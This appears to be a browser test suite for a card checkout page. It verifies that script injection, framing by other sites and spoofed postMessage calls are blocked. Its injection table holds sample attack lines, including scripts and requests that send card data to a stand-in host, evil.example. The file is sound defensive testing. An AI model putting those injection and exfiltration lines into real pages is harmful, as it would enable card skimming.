// What must not work on the pages: foreign scripts, foreign frames, and whoever sends messages.

import assert from "node:assert/strict";
import { createServer } from "node:http";
import { test } from "node:test";
import { CARDS, cardFields, merchant, openBrowser, stage, typeCard } from "./stage.mjs";

async function at(t) {
  const browser = await openBrowser();
  t.after(() => browser.close());
  const payment = await merchant.order();
  await browser.page.goto(payment.checkout_url);
  await cardFields(browser.page).getByLabel("Card number").waitFor();
  return { ...browser, payment };
}

/** Ways in which an injected text or script tries to do something. Each leaves a mark when it succeeds. */
const INJECTIONS = {
  "an inline script": () => document.body.append(Object.assign(document.createElement("script"), { textContent: "window.pwned = 1" })),
  "a script from elsewhere": () => document.body.append(Object.assign(document.createElement("script"), { src: "https://evil.example/s.js" })),
  "a script in an attribute": () => {
    const image = document.createElement("img");
    image.setAttribute("onerror", "window.pwned = 1");
    document.body.append(image);
    image.dispatchEvent(new Event("error"));
  },
  "markup from a string": () => { document.body.innerHTML = "<p>replaced</p>"; },
  // Later, because code that a debugger runs may evaluate what the page may not.
  "a string as code": () => { window.setTimeout(() => window.eval("window.pwned = 1"), 0); },
  "a timer with a string": () => { window.setTimeout("window.pwned = 1", 0); },
  "a style of its own": () => document.head.append(Object.assign(document.createElement("style"), { textContent: "body{display:none}" })),
  "an image that carries data away": () => document.body.append(Object.assign(document.createElement("img"), { src: "https://evil.example/?card" })),
  "a request elsewhere": () => { window.fetch("https://evil.example/?card").catch(() => {}); },
  "a form that goes elsewhere": () => {
    const form = Object.assign(document.createElement("form"), { action: "https://evil.example/", method: "post" });
    document.body.append(form);
    form.submit();
  },
  "a frame from elsewhere": () => document.body.append(Object.assign(document.createElement("iframe"), { src: "https://evil.example/" })),
  "another base": () => document.head.append(Object.assign(document.createElement("base"), { href: "https://evil.example/" })),
  "a worker": () => { new Worker("data:text/javascript,1"); },
};

for (const [name, inject] of Object.entries(INJECTIONS)) {
  test(`${name} is blocked and reported, in the page and in the fields`, async (t) => {
    const { page, context, watch } = await at(t);
    const reported = [];
    context.on("request", (request) => {
      if (/\/reports$/.test(new URL(request.url()).pathname)) reported.push(request.url());
    });
    for (const frame of page.frames()) {
      const before = watch.violations.length + blockedBySandbox(watch);
      await frame.evaluate(`(${inject})()`).catch(() => {});
      await frame.waitForFunction(() => true);
      await assertEventually(() => watch.violations.length + blockedBySandbox(watch) > before, `no violation in ${frame.url().split("?")[0]}`);
      assert.equal(await frame.evaluate(() => window.pwned), undefined);
      assert.ok(await frame.evaluate(() => document.querySelector("form") !== null), "the page is still there");
    }
    for (const request of watch.requests) {
      const answer = await request.response().catch(() => null);
      assert.ok(!request.url().startsWith("https://evil.example") || answer === null, "something left the page");
    }
  });
}

/** The fields' frame may not even submit forms; a sandbox tells the console only. */
const blockedBySandbox = (watch) => watch.errors.filter((text) => /^Blocked form submission/.test(text)).length;

async function assertEventually(holds, message) {
  for (let left = 100; left > 0; left -= 1) {
    if (holds()) return;
    await new Promise((done) => setTimeout(done, 50));
  }
  assert.fail(message);
}

/** A site of somebody else's, on this machine. */
async function foreignSite(t, html) {
  const server = createServer((_, answer) => answer.setHeader("content-type", "text/html").end(html));
  await new Promise((done) => server.listen(0, "127.0.0.1", done));
  t.after(() => server.close());
  return `http://localhost:${server.address().port}`;
}

test("no site may put the checkout page into a frame, nor the fields of another site's ticket", async (t) => {
  const { page, payment } = await at(t);
  const fields = await page.locator("iframe").getAttribute("src");
  for (const address of [payment.checkout_url, fields]) {
    const site = await foreignSite(t, `<iframe src="${address}"></iframe>`);
    const browser = await openBrowser();
    t.after(() => browser.close());
    await browser.page.goto(site);
    await assertEventually(
      () => browser.page.frames().every((frame) => frame === browser.page.mainFrame() || !frame.url().startsWith("https://")),
      "the frame was shown",
    );
  }
});

test("the fields obey nobody but the page of their ticket, and the page nobody but its fields", async (t) => {
  const { page, watch } = await at(t);
  await typeCard(page, CARDS.approved);
  const [main, fields] = page.frames();
  // From within the fields' own window: another source than the parent.
  await fields.evaluate(() => window.postMessage({ coffer: 1, type: "tokenize" }, "*"));
  // From the page to itself: another source than the frame.
  await main.evaluate(() => window.postMessage({ coffer: 1, type: "token", token: { id: "tok_test_approved" } }, "*"));
  await main.evaluate(() => new Promise((done) => setTimeout(done, 200)));
  assert.ok(!watch.requests.some((request) => request.method() === "POST"), "somebody was obeyed");
});

test("no message of the fields holds a digit of the card before there is a token, and then only its last four", async (t) => {
  const browser = await openBrowser();
  t.after(() => browser.close());
  const { page, context } = browser;
  const told = [];
  await context.exposeBinding("cofferTold", (_, text) => told.push(text));
  await context.addInitScript(() => window.addEventListener("message", ({ data }) => window.cofferTold(JSON.stringify(data))));
  const payment = await merchant.order();
  await page.goto(payment.checkout_url);
  await typeCard(page, CARDS.approved);
  await page.getByRole("button", { name: /^Pay/ }).click();
  await page.getByRole("heading", { name: "Payment received" }).waitFor();
  const before = told.filter((text) => !text.includes('"token"'));
  assert.ok(before.length > 3);
  for (const text of before) assert.ok(!/\d{4}/.test(text.replace(/"height":\d+/, "")), text);
  for (const text of told) assert.ok(!text.includes(CARDS.approved) && !text.includes("424242"), text);
  assert.equal(new URL(page.url()).origin, stage.pay);
});
